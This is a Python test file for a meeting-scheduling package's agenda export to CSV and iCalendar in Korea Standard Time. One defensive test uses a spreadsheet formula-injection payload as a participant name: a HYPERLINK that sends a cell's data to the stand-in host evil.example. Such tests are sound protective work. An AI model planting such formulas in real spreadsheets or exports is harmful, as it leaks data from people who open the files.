"""Agendas, CSV and iCalendar in Korea Standard Time."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from icalendar import Calendar

from kbridge.engine.scheduling import Meeting, MeetingInstance, Participant, Placement, Table
from kbridge.engine.scheduling.export import (
    KST,
    EventClock,
    agenda_ics,
    agendas_csv,
    meeting_agendas,
)

INSTANCE = MeetingInstance(
    n_slots=4,
    participants=(Participant("acme", "ACME"), Participant("s1", "Startup One"), Participant("s2")),
    meetings=(Meeting("m1", ("s1", "acme")), Meeting("m2", ("s2", "acme"), length=2)),
    tables=(Table("t1", "Table 1"),),
)
PLACEMENTS = [Placement("m2", 2, "t1"), Placement("m1", 0, "t1")]
CLOCK = EventClock(datetime(2025, 6, 10, 9, 0), slot_minutes=20)


def test_slots_become_kst_times():
    assert CLOCK.begin(3) == datetime(2025, 6, 10, 10, 0, tzinfo=KST)
    assert CLOCK.end(2, 2).isoformat() == "2025-06-10T10:20:00+09:00"


def test_agendas_are_personal_and_in_time_order():
    agendas = meeting_agendas(INSTANCE, PLACEMENTS, CLOCK)
    assert [(a.item_id, a.start.isoformat(), a.with_names) for a in agendas["acme"]] == [
        ("m1", "2025-06-10T09:00:00+09:00", ("Startup One",)),
        ("m2", "2025-06-10T09:40:00+09:00", ("s2",)),
    ]
    assert [a.title for a in agendas["s1"]] == ["1:1 meeting with ACME"]


def test_csv_has_one_row_per_person_and_meeting():
    text = agendas_csv(meeting_agendas(INSTANCE, PLACEMENTS, CLOCK))
    lines = text.split("\r\n")
    assert lines[0] == '\ufeff"owner","item","start","end","place","with","title"'
    assert lines[1] == (
        '"acme","m1","2025-06-10T09:00:00+09:00","2025-06-10T09:20:00+09:00","Table 1",'
        '"Startup One","1:1 meeting with Startup One"'
    )
    assert lines[-1] == "" and len(lines) == 1 + 4 + 1


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_csv_neutralises_names_that_spreadsheets_would_run():
    instance = MeetingInstance(
        n_slots=2,
        participants=(Participant("acme", "@SUM(1+1)"), Participant("s1", HYPERLINK)),
        meetings=(Meeting("m1", ("s1", "acme")),),
        tables=(Table("t1", "-2+3"),),
    )
    text = agendas_csv(meeting_agendas(instance, [Placement("m1", 0, "t1")], CLOCK))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[1] == ["acme", "m1", "2025-06-10T09:00:00+09:00", "2025-06-10T09:20:00+09:00",
                       "'-2+3", "'" + HYPERLINK, "1:1 meeting with " + HYPERLINK]
    assert rows[2][4:6] == ["'-2+3", "'@SUM(1+1)"]


def test_icalendar_round_trips_with_seoul_times():
    items = meeting_agendas(INSTANCE, PLACEMENTS, CLOCK)["acme"]
    data = agenda_ics(items, calendar_name="ACME", stamp=datetime(2025, 6, 1, tzinfo=UTC))
    calendar = Calendar.from_ical(data)
    events = list(calendar.walk("VEVENT"))
    assert [str(e["uid"]) for e in events] == ["m1-acme@kbridge.local", "m2-acme@kbridge.local"]
    assert events[1].decoded("dtstart") == datetime(2025, 6, 10, 9, 40, tzinfo=KST)
    assert events[1].decoded("dtend") == datetime(2025, 6, 10, 10, 20, tzinfo=KST)
    assert str(events[0]["location"]) == "Table 1"
    assert [tz["tzid"] for tz in calendar.walk("VTIMEZONE")] == ["Asia/Seoul"]
    assert b"TZID=Asia/Seoul" in data


def test_one_session_per_day():
    clock = EventClock(
        datetime(2025, 6, 10, 9, 0),
        30,
        slot_starts=(
            datetime(2025, 6, 10, 9),
            datetime(2025, 6, 10, 9, 30),
            datetime(2025, 6, 11, 9),
        ),
    )
    assert clock.sessions(3) == (0, 0, 1)
